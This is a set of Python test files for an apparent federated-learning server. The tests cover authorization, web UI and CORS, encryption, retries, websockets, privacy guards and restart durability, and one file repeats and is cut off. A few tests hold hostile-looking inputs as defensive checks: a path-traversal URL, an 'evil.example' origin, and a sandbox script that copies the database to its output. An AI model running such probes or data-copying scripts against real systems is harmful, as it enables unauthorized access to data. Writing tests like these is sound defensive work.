    root = UserClient(f"http://127.0.0.1:{server}")
    root.authenticate("root", "pw")

    # (a) duplicate name rejected
    try:
        root.request("POST", "/role", json_body={"name": "Researcher"})
        raise AssertionError("duplicate role name accepted")
    except RuntimeError as e:
        assert "400" in str(e)

    # (b) org admin vs global admin
    rules = root.request("GET", "/rule")["data"]
    org_user_rules = [r["id"] for r in rules
                      if r["name"] == "user"
                      and r["scope"] in ("own", "organization")]
    root.request("POST", "/role", json_body={
        "name": "OrgAdmin", "rules": org_user_rules})
    oid = root.organization.create(name="rev-org")["id"]
    root.user.create("orgadmin", "pw", organization_id=oid,
                     roles=["OrgAdmin"])
    root.user.create("victim", "pw", organization_id=oid,
                     roles=["Root"])
    victim_id = next(u["id"] for u in root.request("GET", "/user")["data"]
                     if u["username"] == "victim")
    oa = UserClient(f"http://127.0.0.1:{server}")
    oa.authenticate("orgadmin", "pw")
    for method, body in (("PATCH", {"roles": []}), ("DELETE", None)):
        try:
            oa.request(method, f"/user/{victim_id}", json_body=body)
            raise AssertionError(f"{method} revoked a global admin")
        except RuntimeError as e:
            assert "403" in str(e), (method, str(e))
    # root (who holds everything) CAN do both
    out = root.request("PATCH", f"/user/{victim_id}",
                       json_body={"roles": ["Viewer"]})
    assert len(out["roles"]) == 1
    root.request("DELETE", f"/user/{victim_id}")
