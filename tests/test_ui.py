"""Web UI serving: static SPA assets at /app/ (no auth), CORS surface
for browser clients (reference: separately-hosted Angular UI talks to a
CORS-enabled REST API — SURVEY.md §2.1 UI row)."""

import http.client

import pytest

from vantage6_trn.server import ServerApp


@pytest.fixture()
def server():
    app = ServerApp(root_password="pw")
    port = app.start()
    yield port
    app.stop()


def _req(port, method, path, headers=None):
    con = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    con.request(method, path, headers=headers or {})
    resp = con.getresponse()
    body = resp.read()
    con.close()
    return resp, body


def test_root_redirects_to_app(server):
    resp, _ = _req(server, "GET", "/")
    assert resp.status == 302
    assert resp.getheader("Location") == "/app/"


def test_index_served_without_auth(server):
    resp, body = _req(server, "GET", "/app/")
    assert resp.status == 200
    assert "text/html" in resp.getheader("Content-Type")
    assert b"vantage6" in body


def test_assets_served_with_mime_types(server):
    resp, body = _req(server, "GET", "/app/app.js")
    assert resp.status == 200
    assert "javascript" in resp.getheader("Content-Type")
    assert b"sealForOrg" in body  # the in-browser E2E crypto is present
    resp, body = _req(server, "GET", "/app/style.css")
    assert resp.status == 200
    assert "text/css" in resp.getheader("Content-Type")


def test_unknown_asset_404s(server):
    resp, _ = _req(server, "GET", "/app/nope.js")
    assert resp.status == 404
    resp, _ = _req(server, "GET", "/app/..%2Fapp.py")
    assert resp.status == 404


def test_api_still_requires_auth(server):
    resp, _ = _req(server, "GET", "/api/task")
    assert resp.status == 401


def test_browser_seal_format_is_node_compatible():
    """app.js sealForOrg() builds the wire string with WebCrypto
    RSA-OAEP/SHA-256 + AES-256-CTR (counter length 128 = full-block
    increment). No JS runtime exists in this image, so replicate the
    byte-exact spec-defined operations here and prove the node-side
    cryptor opens the result — and vice versa for openPayload()."""
    import base64
    import os

    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import padding
    from cryptography.hazmat.primitives.ciphers import (
        Cipher, algorithms, modes,
    )

    from vantage6_trn.common.encryption import RSACryptor

    org = RSACryptor(key_bits=2048)
    payload = b'{"method":"partial_stats","args":[],"kwargs":{}}'

    # --- what the browser's sealForOrg does, per the WebCrypto spec ---
    pub = serialization.load_der_public_key(
        base64.b64decode(org.public_key_str)  # importKey('spki', ...)
    )
    aes_key, iv = os.urandom(32), os.urandom(16)
    enc = Cipher(algorithms.AES(aes_key), modes.CTR(iv)).encryptor()
    ct = enc.update(payload) + enc.finalize()
    enc_key = pub.encrypt(
        aes_key,
        padding.OAEP(mgf=padding.MGF1(hashes.SHA256()),
                     algorithm=hashes.SHA256(), label=None),
    )
    wire = "$".join(
        base64.b64encode(x).decode() for x in (enc_key, iv, ct)
    )
    assert org.decrypt_str_to_bytes(wire) == payload

    # --- reverse: node seals a result, browser's openPayload opens it ---
    wire2 = org.encrypt_bytes_to_str(b"result-bytes", org.public_key_str)
    k_b, iv_b, ct_b = (base64.b64decode(p) for p in wire2.split("$"))
    priv = serialization.load_pem_private_key(  # importKey('pkcs8', ...)
        org.private_key_pem, password=None
    )
    aes2 = priv.decrypt(
        k_b,
        padding.OAEP(mgf=padding.MGF1(hashes.SHA256()),
                     algorithm=hashes.SHA256(), label=None),
    )
    dec = Cipher(algorithms.AES(aes2), modes.CTR(iv_b)).decryptor()
    assert dec.update(ct_b) + dec.finalize() == b"result-bytes"


def test_ui_task_flow_with_browser_sealed_input(tmp_path):
    """End-to-end over the exact HTTP requests app.js makes: researcher
    logs in, seals a per-org input the browser way, POSTs /task, and the
    node decrypts + executes it."""
    import base64
    import json
    import os
    import urllib.request

    import numpy as np
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import padding
    from cryptography.hazmat.primitives.ciphers import (
        Cipher, algorithms, modes,
    )

    from vantage6_trn.algorithm.table import Table
    from vantage6_trn.dev import DemoNetwork

    net = DemoNetwork([[Table({"a": np.arange(5.0)})]],
                      encrypted=True).start()
    try:
        net.researcher(0)
        base = net.base_url  # .../api

        def fetch(path, body=None, token=None):
            req = urllib.request.Request(
                base + path,
                data=json.dumps(body).encode() if body is not None else None,
                headers={"Content-Type": "application/json", **(
                    {"Authorization": f"Bearer {token}"} if token else {})},
            )
            with urllib.request.urlopen(req, timeout=15) as r:
                return json.loads(r.read())

        tok = fetch("/token/user", {"username": "researcher-0",
                                    "password": "pw"})["access_token"]
        org = fetch(f"/organization/{net.org_ids[0]}", token=tok)
        assert org["public_key"]  # node uploaded it at startup

        # seal exactly like sealForOrg()
        pub = serialization.load_der_public_key(
            base64.b64decode(org["public_key"]))
        payload = json.dumps({"method": "partial_stats", "args": [],
                              "kwargs": {}}).encode()
        aes_key, iv = os.urandom(32), os.urandom(16)
        enc = Cipher(algorithms.AES(aes_key), modes.CTR(iv)).encryptor()
        ct = enc.update(payload) + enc.finalize()
        enc_key = pub.encrypt(aes_key, padding.OAEP(
            mgf=padding.MGF1(hashes.SHA256()),
            algorithm=hashes.SHA256(), label=None))
        wire = "$".join(base64.b64encode(x).decode()
                        for x in (enc_key, iv, ct))

        task = fetch("/task", {
            "collaboration_id": net.collaboration_id,
            "organizations": [{"id": net.org_ids[0], "input": wire}],
            "image": "v6-trn://stats", "name": "from-ui",
        }, token=tok)
        client = net.researcher(0)
        (res,) = client.wait_for_results(task["id"], timeout=30)
        assert res["count"][0] == 5.0
    finally:
        net.stop()


def test_cors_default_is_same_origin_only(server):
    """The bundled UI is served by the API itself, so by default no
    cross-origin page may read responses (or drive login flows from a
    victim's browser — advisor finding, round 2)."""
    resp, _ = _req(server, "OPTIONS", "/api/task",
                   {"Origin": "http://elsewhere",
                    "Access-Control-Request-Method": "POST"})
    assert resp.status == 204  # preflight answered, but no grant:
    assert resp.getheader("Access-Control-Allow-Origin") is None
    resp, _ = _req(server, "GET", "/api/health")
    assert resp.getheader("Access-Control-Allow-Origin") is None


def test_cors_configurable_origins():
    """Deployments with a separately-hosted UI allowlist its origin;
    the grant echoes the origin (with Vary) rather than wildcarding."""
    app = ServerApp(root_password="pw",
                    cors_origins=["http://ui.example"])
    port = app.start()
    try:
        resp, _ = _req(port, "OPTIONS", "/api/task",
                       {"Origin": "http://ui.example",
                        "Access-Control-Request-Method": "POST"})
        assert resp.status == 204
        assert (resp.getheader("Access-Control-Allow-Origin")
                == "http://ui.example")
        assert "Authorization" in resp.getheader(
            "Access-Control-Allow-Headers")
        assert resp.getheader("Vary") == "Origin"
        # a non-listed origin gets no grant
        resp, _ = _req(port, "GET", "/api/health",
                       {"Origin": "http://evil.example"})
        assert resp.getheader("Access-Control-Allow-Origin") is None
    finally:
        app.stop()
