"""Hermetic tests for common/resilience.py (RetryPolicy + breaker).

Clock, sleep and RNG are injected fakes — nothing here sleeps for real
(the policy's ``sleep`` just advances the fake clock), so the whole
file runs in milliseconds and asserts *exact* backoff arithmetic.
"""

import pytest

from vantage6_trn.common import resilience
from vantage6_trn.common.resilience import (
    CircuitBreaker,
    CircuitOpenError,
    RetryError,
    RetryPolicy,
    breaker_for,
    configure_breakers,
    reset_breakers,
    retry_after_s,
)


class FakeClock:
    """Monotonic clock whose ``sleep`` advances it — deterministic time."""

    def __init__(self):
        self.t = 0.0
        self.sleeps = []

    def __call__(self):
        return self.t

    def sleep(self, s):
        self.sleeps.append(s)
        self.t += s


def make_policy(**kw):
    clock = FakeClock()
    kw.setdefault("max_attempts", 4)
    kw.setdefault("base_delay", 0.1)
    kw.setdefault("max_delay", 5.0)
    kw.setdefault("deadline", 30.0)
    kw.setdefault("rng", lambda: 1.0)  # jitter ceiling, deterministic
    policy = RetryPolicy(sleep=clock.sleep, clock=clock, **kw)
    return policy, clock


@pytest.fixture(autouse=True)
def _clean_breakers():
    reset_breakers()
    configure_breakers()
    yield
    reset_breakers()
    configure_breakers()


# --- RetryPolicy ----------------------------------------------------------
def test_backoff_is_exponential_with_jitter_ceiling():
    policy, clock = make_policy()
    with pytest.raises(RetryError):
        for attempt in policy.attempts():
            attempt.retry(exc=OSError("boom"))
    # rng()==1.0 → sleeps hit the ceiling exactly: base * 2**(n-1)
    assert clock.sleeps == [0.1, 0.2, 0.4]


def test_jitter_scales_the_ceiling_uniformly():
    policy, clock = make_policy(rng=lambda: 0.5)
    with pytest.raises(RetryError):
        for attempt in policy.attempts():
            attempt.retry()
    assert clock.sleeps == [0.05, 0.1, 0.2]


def test_max_delay_caps_the_ceiling():
    policy, clock = make_policy(max_attempts=6, base_delay=1.0,
                                max_delay=3.0)
    with pytest.raises(RetryError):
        for attempt in policy.attempts():
            attempt.retry()
    assert clock.sleeps == [1.0, 2.0, 3.0, 3.0, 3.0]


def test_retry_error_chains_last_exception():
    policy, _ = make_policy(max_attempts=1)
    boom = ValueError("last failure")
    with pytest.raises(RetryError) as ei:
        for attempt in policy.attempts():
            attempt.retry(exc=boom)
    assert ei.value.__cause__ is boom


def test_deadline_budget_exhaustion_preempts_attempts():
    # deadline smaller than the next backoff sleep → RetryError on the
    # second retry even though max_attempts would allow more
    policy, clock = make_policy(max_attempts=10, deadline=0.25)
    with pytest.raises(RetryError, match="deadline"):
        for attempt in policy.attempts():
            attempt.retry(exc=OSError("down"))
    # first sleep (0.1) fit the budget; the second (0.2) would overshoot
    assert clock.sleeps == [0.1]


def test_retry_after_raises_the_delay_floor():
    policy, clock = make_policy(rng=lambda: 0.0)  # jitter would be 0
    for attempt in policy.attempts():
        if attempt.number == 1:
            attempt.retry(retry_after=1.5)
            continue
        break
    assert clock.sleeps == [1.5]


def test_retry_after_never_lowers_the_jittered_delay():
    policy, clock = make_policy(rng=lambda: 1.0, base_delay=2.0)
    for attempt in policy.attempts():
        if attempt.number == 1:
            attempt.retry(retry_after=0.5)  # smaller than jitter (2.0)
            continue
        break
    assert clock.sleeps == [2.0]


def test_retry_after_is_bounded_by_the_deadline():
    policy, clock = make_policy(deadline=1.0)
    with pytest.raises(RetryError, match="deadline"):
        for attempt in policy.attempts():
            attempt.retry(retry_after=10.0)
    assert clock.sleeps == []  # refused to start a sleep it can't afford


def test_plain_continue_replays_without_consuming_budget():
    policy, clock = make_policy(max_attempts=2)
    passes = 0
    for attempt in policy.attempts():
        passes += 1
        if passes == 1:
            continue  # e.g. the 401 re-auth-once path
        break
    assert passes == 2
    assert attempt.number == 1  # no retry() → no budget spent
    assert clock.sleeps == []


def test_no_retry_clone_is_single_attempt():
    policy, _ = make_policy()
    single = policy.no_retry()
    assert single.max_attempts == 1
    with pytest.raises(RetryError):
        for attempt in single.attempts():
            attempt.retry(exc=OSError("boom"))


def test_retry_after_s_parsing():
    class R:
        def __init__(self, headers):
            self.headers = headers

    assert retry_after_s(R({})) is None
    assert retry_after_s(R({"Retry-After": "2.5"})) == 2.5
    assert retry_after_s(R({"Retry-After": "0"})) == 0.0
    assert retry_after_s(R({"Retry-After": "-3"})) is None
    assert retry_after_s(R({"Retry-After": "tomorrow"})) is None


# --- CircuitBreaker -------------------------------------------------------
def test_breaker_opens_after_consecutive_failures():
    clock = FakeClock()
    br = CircuitBreaker(failure_threshold=3, reset_timeout=10.0,
                        clock=clock)
    assert br.state == "closed"
    for _ in range(2):
        br.record_failure()
    assert br.state == "closed" and br.allow()
    br.record_failure()
    assert br.state == "open"
    assert not br.allow()


def test_breaker_success_resets_the_failure_streak():
    clock = FakeClock()
    br = CircuitBreaker(failure_threshold=2, reset_timeout=10.0,
                        clock=clock)
    br.record_failure()
    br.record_success()
    br.record_failure()
    assert br.state == "closed"  # streak broken — not consecutive


def test_breaker_half_open_admits_one_probe_then_closes():
    clock = FakeClock()
    br = CircuitBreaker(failure_threshold=1, reset_timeout=5.0,
                        clock=clock)
    br.record_failure()
    assert br.state == "open" and not br.allow()
    clock.t += 5.0
    assert br.state == "half-open"
    assert br.allow()       # the single probe
    assert not br.allow()   # everyone else still blocked
    br.record_success()
    assert br.state == "closed" and br.allow()


def test_breaker_half_open_probe_failure_reopens():
    clock = FakeClock()
    br = CircuitBreaker(failure_threshold=1, reset_timeout=5.0,
                        clock=clock)
    br.record_failure()
    clock.t += 5.0
    assert br.allow()
    br.record_failure()  # probe failed
    assert br.state == "open" and not br.allow()
    clock.t += 5.0       # the open window restarted at the probe failure
    assert br.state == "half-open" and br.allow()


def test_breaker_registry_is_keyed_by_host_port():
    a1 = breaker_for("http://127.0.0.1:5000/api")
    a2 = breaker_for("http://127.0.0.1:5000/other/path")
    b = breaker_for("http://127.0.0.1:5001/api")
    assert a1 is a2
    assert a1 is not b


def test_configure_breakers_applies_to_new_breakers():
    configure_breakers(failure_threshold=1, reset_timeout=0.05)
    br = breaker_for("http://example:1")
    br.record_failure()
    assert br.state == "open"


def test_breaker_env_defaults(monkeypatch):
    monkeypatch.setenv("V6_BREAKER_THRESHOLD", "7")
    monkeypatch.setenv("V6_BREAKER_RESET_S", "1.25")
    br = breaker_for("http://env-host:9")
    assert br.failure_threshold == 7
    assert br.reset_timeout == 1.25


def test_circuit_open_error_is_a_connection_error():
    # call sites catch ConnectionError for transport failures; the
    # breaker's fail-fast must flow through the same except clauses
    assert issubclass(CircuitOpenError, ConnectionError)
    assert issubclass(RetryError, RuntimeError)


def test_breaker_failures_below_threshold_never_block():
    br = CircuitBreaker(failure_threshold=1000)
    for _ in range(999):
        br.record_failure()
        assert br.allow()
