"""WebSocket push channel (VERDICT r1 item #4): RFC 6455 transport for
the event stream, same batch payloads as long-poll, auth enforced at
the handshake, node daemon prefers it with clean long-poll fallback."""

import threading
import time

import numpy as np
import pytest

from vantage6_trn.algorithm.table import Table
from vantage6_trn.client import UserClient
from vantage6_trn.common import ws
from vantage6_trn.common.serialization import make_task_input
from vantage6_trn.node.daemon import Node
from vantage6_trn.server import ServerApp


def test_frame_codec_roundtrip():
    for payload in (b"", b"x", b"hello" * 10, b"y" * 70_000):
        for mask in (True, False):
            frame = ws.encode_frame(ws.OP_TEXT, payload, mask)
            opcode, out, consumed = ws.parse_frame(frame)
            assert (opcode, out, consumed) == (ws.OP_TEXT, payload,
                                               len(frame))
            # partial prefixes never parse (and never throw)
            for cut in (1, len(frame) // 2, len(frame) - 1):
                assert ws.parse_frame(frame[:cut]) is None


def test_ws_handshake_requires_auth():
    app = ServerApp(root_password="pw")
    port = app.start()
    try:
        with pytest.raises(ws.WSHandshakeError) as e:
            ws.connect(f"http://127.0.0.1:{port}/api/ws")
        assert e.value.status == 401
        with pytest.raises(ws.WSHandshakeError) as e:
            ws.connect(f"http://127.0.0.1:{port}/api/ws", token="garbage")
        assert e.value.status == 401
    finally:
        app.stop()


def test_ws_streams_events_and_heartbeats():
    app = ServerApp(root_password="pw")
    port = app.start()
    try:
        root = UserClient(f"http://127.0.0.1:{port}")
        root.authenticate("root", "pw")
        oid = root.organization.create(name="o")["id"]
        collab = root.collaboration.create("c", [oid])["id"]
        conn = ws.connect(f"http://127.0.0.1:{port}/api/ws",
                          token=root.token)
        try:
            # an event lands → pushed within the poll window
            app.events.emit("new_task", {"task_id": 1},
                            [f"collaboration_{collab}"])
            batch = conn.recv_json(timeout=10.0)
            while not batch["data"]:  # skip a heartbeat racing the emit
                batch = conn.recv_json(timeout=10.0)
            assert batch["data"][0]["event"] == "new_task"
            assert batch["last_id"] >= 1
            assert "oldest_id" in batch and "bus_last_id" in batch
        finally:
            conn.close()
    finally:
        app.stop()


def test_node_runs_federation_over_websocket():
    """The full task round-trip with the node's long-poll disabled: only
    the websocket channel can deliver new_task, so completion proves the
    daemon runs on it."""
    app = ServerApp(root_password="pw")
    port = app.start()
    root = UserClient(f"http://127.0.0.1:{port}")
    root.authenticate("root", "pw")
    oid = root.organization.create(name="o")["id"]
    collab = root.collaboration.create("c", [oid])["id"]
    reg = root.node.create(collab, organization_id=oid)
    node = Node(
        server_url=f"http://127.0.0.1:{port}/api", api_key=reg["api_key"],
        databases=[Table({"a": np.ones(7)})], name="ws-node",
    )
    original = node.server_request

    def no_longpoll(method, path, *a, **kw):
        if path == "/event":
            raise AssertionError("node fell back to long-poll")
        return original(method, path, *a, **kw)

    node.server_request = no_longpoll
    node.start()
    try:
        # wait until the ws channel is up before creating work
        deadline = time.time() + 10
        while node._ws_conn is None and time.time() < deadline:
            time.sleep(0.05)
        assert node._ws_conn is not None, "websocket never connected"
        task = root.task.create(
            collaboration=collab, organizations=[oid], name="over-ws",
            image="v6-trn://stats", input_=make_task_input("partial_stats"),
        )
        (res,) = root.wait_for_results(task["id"], timeout=60)
        assert res["count"][0] == 7.0
    finally:
        node.stop()
        app.stop()


def test_client_wait_uses_ws_and_falls_back():
    """UserClient.wait_for_results works both with the ws channel and
    when the handshake is unavailable (fallback to long-poll)."""
    app = ServerApp(root_password="pw")
    port = app.start()
    root = UserClient(f"http://127.0.0.1:{port}")
    root.authenticate("root", "pw")
    oid = root.organization.create(name="o")["id"]
    collab = root.collaboration.create("c", [oid])["id"]
    reg = root.node.create(collab, organization_id=oid)
    node = Node(
        server_url=f"http://127.0.0.1:{port}/api", api_key=reg["api_key"],
        databases=[Table({"a": np.ones(3)})], name="n",
    )
    node.start()
    try:
        t1 = root.task.create(
            collaboration=collab, organizations=[oid], name="ws-wait",
            image="v6-trn://stats", input_=make_task_input("partial_stats"),
        )
        (res,) = root.wait_for_results(t1["id"], timeout=60)
        assert res["count"][0] == 3.0

        # sabotage the ws route → the wait path must still complete
        app.http.ws_routes.clear()
        t2 = root.task.create(
            collaboration=collab, organizations=[oid], name="lp-wait",
            image="v6-trn://stats", input_=make_task_input("partial_stats"),
        )
        (res,) = root.wait_for_results(t2["id"], timeout=60)
        assert res["count"][0] == 3.0
    finally:
        node.stop()
        app.stop()
