"""Node privacy policy `policies.min_rows` (reference: the algorithm-
tools privacy thresholds — vantage6's first name is "priVAcy
preserviNg"): a table below the floor never reaches algorithm code, on
either execution path."""

import numpy as np
import pytest

from vantage6_trn.algorithm.table import Table
from vantage6_trn.algorithm.wrap import PrivacyGuardError, dispatch
from vantage6_trn.client import UserClient
from vantage6_trn.common.serialization import make_task_input
from vantage6_trn.node.daemon import Node
from vantage6_trn.server import ServerApp


def test_dispatch_enforces_min_rows():
    from vantage6_trn.models import stats

    small = Table({"x": np.arange(5.0)})
    with pytest.raises(PrivacyGuardError, match="min_rows=20"):
        dispatch(stats, {"method": "partial_stats", "args": [],
                         "kwargs": {}},
                 tables=[small], min_rows=20)
    # at/above the floor it runs
    big = Table({"x": np.arange(20.0)})
    out = dispatch(stats, {"method": "partial_stats", "args": [],
                           "kwargs": {}},
                   tables=[big], min_rows=20)
    assert out["count"][0] == 20.0


def test_sandbox_guard_binds_before_spawn_for_custom_entrypoints(tmp_path):
    """A custom-entrypoint image never runs our wrapper, so the env-var
    guard is unreadable to it — the refusal must happen parent-side
    before the subprocess exists (review finding)."""
    import threading

    from vantage6_trn.node.sandbox import SandboxCrash, run_sandboxed

    algo_dir = tmp_path / "shady"
    algo_dir.mkdir()
    (algo_dir / "run.sh").write_text(
        "#!/bin/sh\ncat \"$DATABASE_URI\" > \"$OUTPUT_FILE\"\n")
    spec = {"path": str(algo_dir), "entrypoint": ["/bin/sh", "run.sh"],
            "timeout": 30}
    with pytest.raises(SandboxCrash, match="privacy guard"):
        run_sandboxed(
            spec, run_id=1,
            input_={"method": "main", "args": [], "kwargs": {}},
            token=None, tables=[Table({"x": np.arange(5.0)})],
            meta=None, kill_event=threading.Event(), min_rows=50)


def test_min_rows_through_federation_and_sandbox(tmp_path):
    """A node configured with policies.min_rows=50 refuses a 10-row
    task with the guard message in the run log — in-process AND
    subprocess-sandbox paths (env-file contract V6_POLICY_MIN_ROWS)."""
    import textwrap
    import time

    algo_dir = tmp_path / "third"
    algo_dir.mkdir()
    (algo_dir / "tiny_algo.py").write_text(textwrap.dedent('''
        from vantage6_trn.algorithm.decorators import data

        @data(1)
        def peek(df):
            return {"rows": float(len(df))}
    '''))

    app = ServerApp(root_password="pw")
    port = app.start()
    root = UserClient(f"http://127.0.0.1:{port}")
    root.authenticate("root", "pw")
    oid = root.organization.create(name="guard-org")["id"]
    collab = root.collaboration.create("guard-c", [oid])["id"]
    reg = root.node.create(collab, organization_id=oid)
    node = Node(
        server_url=f"http://127.0.0.1:{port}/api",
        api_key=reg["api_key"],
        databases=[Table({"x": np.arange(10.0),
                          "label": np.zeros(10, np.int64)})],
        extra_images={"acme/tiny:1": {"path": str(algo_dir),
                                      "module": "tiny_algo",
                                      "timeout": 60}},
        min_rows=50,
        name="guarded-node",
    )
    node.start()
    try:
        for image, method in (("v6-trn://stats", "partial_stats"),
                              ("acme/tiny:1", "peek")):
            task = root.task.create(
                collaboration=collab, organizations=[oid],
                name=f"guard-{method}", image=image,
                input_=make_task_input(method),
            )
            deadline = time.time() + 60
            runs = []
            while time.time() < deadline:
                runs = root.run.from_task(task["id"])
                if runs and runs[0]["status"] == "failed":
                    break
                time.sleep(0.3)
            assert runs and runs[0]["status"] == "failed", (image, runs)
            assert "privacy guard" in (runs[0]["log"] or ""), (
                image, runs[0]["log"])
            assert "min_rows=50" in runs[0]["log"]
    finally:
        node.stop()
        app.stop()
