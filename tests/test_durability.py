"""Server crash/restart durability (SURVEY.md §5.3/§5.4): tasks/runs are
durable rows; a restarted server resumes brokering; live nodes ride out
the outage (retry + re-auth) and pending work completes."""

import time

import numpy as np
import pytest

from vantage6_trn.algorithm.table import Table
from vantage6_trn.client import UserClient
from vantage6_trn.common import resilience
from vantage6_trn.common.serialization import make_task_input
from vantage6_trn.node.daemon import Node
from vantage6_trn.server import ServerApp


@pytest.fixture(autouse=True)
def _breaker_isolation():
    """Breaker state is process-global — reset around every test so one
    bounce's failures never leak into the next test."""
    resilience.reset_breakers()
    yield
    resilience.reset_breakers()


def test_server_restart_preserves_state_and_completes_pending(tmp_path):
    db_path = str(tmp_path / "server.sqlite")
    secret = "fixed-secret-for-restart"

    app = ServerApp(db_uri=db_path, jwt_secret=secret, root_password="pw")
    port = app.start()
    root = UserClient(f"http://127.0.0.1:{port}")
    root.authenticate("root", "pw")
    oid = root.organization.create(name="o")["id"]
    collab = root.collaboration.create("c", [oid])["id"]
    reg = root.node.create(collab, organization_id=oid)

    # a task created while NO node is up → durable pending run
    task = root.task.create(
        collaboration=collab, organizations=[oid], name="pending",
        image="v6-trn://stats", input_=make_task_input("partial_stats"),
    )
    app.stop()
    time.sleep(0.2)

    # restart on the same DB + secret + port
    app2 = ServerApp(db_uri=db_path, jwt_secret=secret, root_password="pw")
    port2 = app2.start(port=port)
    assert port2 == port
    try:
        root2 = UserClient(f"http://127.0.0.1:{port}")
        root2.authenticate("root", "pw")
        # durable state survived
        assert [o["name"] for o in root2.organization.list()] == ["o"]
        runs = root2.run.from_task(task["id"])
        assert runs and runs[0]["status"] == "pending"

        # a node with the pre-restart api key connects and drains the queue
        node = Node(
            server_url=f"http://127.0.0.1:{port}/api",
            api_key=reg["api_key"],
            databases=[Table({"a": np.arange(5.0)})],
            name="survivor",
        )
        node.start()
        try:
            (res,) = root2.wait_for_results(task["id"], timeout=30)
            assert res["count"][0] == 5.0
        finally:
            node.stop()
    finally:
        app2.stop()


def test_node_rides_out_server_outage(tmp_path):
    """Node stays alive through a server bounce and processes new tasks
    after it returns (event loop retries; token survives same secret)."""
    db_path = str(tmp_path / "srv.sqlite")
    secret = "bounce-secret"
    app = ServerApp(db_uri=db_path, jwt_secret=secret, root_password="pw")
    port = app.start()
    root = UserClient(f"http://127.0.0.1:{port}")
    root.authenticate("root", "pw")
    oid = root.organization.create(name="o")["id"]
    collab = root.collaboration.create("c", [oid])["id"]
    reg = root.node.create(collab, organization_id=oid)
    node = Node(
        server_url=f"http://127.0.0.1:{port}/api", api_key=reg["api_key"],
        databases=[Table({"a": np.ones(4)})], name="bouncer",
    )
    node.start()
    try:
        # bounce the server
        app.stop()
        time.sleep(1.0)
        app2 = ServerApp(db_uri=db_path, jwt_secret=secret,
                         root_password="pw")
        assert app2.start(port=port) == port
        # the node's failed calls during the outage opened this
        # process's per-host breaker; root2 stands in for a fresh
        # operator process, which would not share that state
        resilience.reset_breakers()
        try:
            assert node._event_thread.is_alive()
            root2 = UserClient(f"http://127.0.0.1:{port}")
            root2.authenticate("root", "pw")
            task = root2.task.create(
                collaboration=collab, organizations=[oid], name="after",
                image="v6-trn://stats",
                input_=make_task_input("partial_stats"),
            )
            # generous budget: under heavy host load the first jit of the
            # stats kernel alone can take tens of seconds
            (res,) = root2.wait_for_results(task["id"], timeout=90)
            assert res["count"][0] == 4.0
        finally:
            app2.stop()
    finally:
        node.stop()


def test_reaper_crashes_in_flight_runs_of_offline_node(tmp_path):
    """A node that dies mid-run (no disconnect, just silence) must not
    leave coordinators blocked forever: when the reaper flips the node
    offline it also fails the node's claimed-but-unfinished runs, so
    waiting clients see a terminal status (secure-agg dropout recovery
    depends on this)."""
    from vantage6_trn.server import ServerApp

    app = ServerApp(db_uri=str(tmp_path / "s.sqlite"), root_password="pw",
                    node_offline_after=1.0)
    port = app.start()
    root = UserClient(f"http://127.0.0.1:{port}")
    root.authenticate("root", "pw")
    oid = root.organization.create(name="o")["id"]
    collab = root.collaboration.create("c", [oid])["id"]
    root.node.create(collab, organization_id=oid)
    try:
        # simulate a node that claimed work and then died silently
        node_row = app.db.one("SELECT * FROM node")
        app.db.update("node", node_row["id"], status="online",
                      last_seen=time.time() - 10)
        tid = app.db.insert(
            "task", image="v6-trn://stats", collaboration_id=collab,
            init_org_id=oid, created_at=time.time(), databases="[]",
        )
        rid_active = app.db.insert(
            "run", task_id=tid, organization_id=oid, status="active",
            assigned_at=time.time(), started_at=time.time(),
        )
        rid_pending = app.db.insert(
            "run", task_id=tid, organization_id=oid, status="pending",
            assigned_at=time.time(),
        )
        deadline = time.time() + 10
        while time.time() < deadline:
            if app.db.get("run", rid_active)["status"] == "crashed":
                break
            time.sleep(0.2)
        run = app.db.get("run", rid_active)
        assert run["status"] == "crashed", run
        assert "offline" in run["log"]
        # pending work survives for a returning node
        assert app.db.get("run", rid_pending)["status"] == "pending"
        assert app.db.get("node", node_row["id"])["status"] == "offline"
    finally:
        app.stop()
