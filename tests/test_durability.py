"""Server crash/restart durability (SURVEY.md §5.3/§5.4): tasks/runs are
durable rows; a restarted server resumes brokering; live nodes ride out
the outage (retry + re-auth) and pending work completes."""

import time

import numpy as np
import pytest

from vantage6_trn.algorithm.table import Table
from vantage6_trn.client import UserClient
from vantage6_trn.common.serialization import make_task_input
from vantage6_trn.node.daemon import Node
from vantage6_trn.server import ServerApp


def test_server_restart_preserves_state_and_completes_pending(tmp_path):
    db_path = str(tmp_path / "server.sqlite")
    secret = "fixed-secret-for-restart"

    app = ServerApp(db_uri=db_path, jwt_secret=secret, root_password="pw")
    port = app.start()
    root = UserClient(f"http://127.0.0.1:{port}")
    root.authenticate("root", "pw")
    oid = root.organization.create(name="o")["id"]
    collab = root.collaboration.create("c", [oid])["id"]
    reg = root.node.create(collab, organization_id=oid)

    # a task created while NO node is up → durable pending run
    task = root.task.create(
        collaboration=collab, organizations=[oid], name="pending",
        image="v6-trn://stats", input_=make_task_input("partial_stats"),
    )
    app.stop()
    time.sleep(0.2)

    # restart on the same DB + secret + port
    app2 = ServerApp(db_uri=db_path, jwt_secret=secret, root_password="pw")
    port2 = app2.start(port=port)
    assert port2 == port
    try:
        root2 = UserClient(f"http://127.0.0.1:{port}")
        root2.authenticate("root", "pw")
        # durable state survived
        assert [o["name"] for o in root2.organization.list()] == ["o"]
        runs = root2.run.from_task(task["id"])
        assert runs and runs[0]["status"] == "pending"

        # a node with the pre-restart api key connects and drains the queue
        node = Node(
            server_url=f"http://127.0.0.1:{port}/api",
            api_key=reg["api_key"],
            databases=[Table({"a": np.arange(5.0)})],
            name="survivor",
        )
        node.start()
        try:
            (res,) = root2.wait_for_results(task["id"], timeout=30)
            assert res["count"][0] == 5.0
        finally:
            node.stop()
    finally:
        app2.stop()


def test_node_rides_out_server_outage(tmp_path):
    """Node stays alive through a server bounce and processes new tasks
    after it returns (event loop retries; token survives same secret)."""
    db_path = str(tmp_path / "srv.sqlite")
    secret = "bounce-secret"
    app = ServerApp(db_uri=db_path, jwt_secret=secret, root_password="pw")
    port = app.start()
    root = UserClient(f"http://127.0.0.1:{port}")
    root.authenticate("root", "pw")
    oid = root.organization.create(name="o")["id"]
    collab = root.collaboration.create("c", [oid])["id"]
    reg = root.node.create(collab, organization_id=oid)
    node = Node(
        server_url=f"http://127.0.0.1:{port}/api", api_key=reg["api_key"],
        databases=[Table({"a": np.ones(4)})], name="bouncer",
    )
    node.start()
    try:
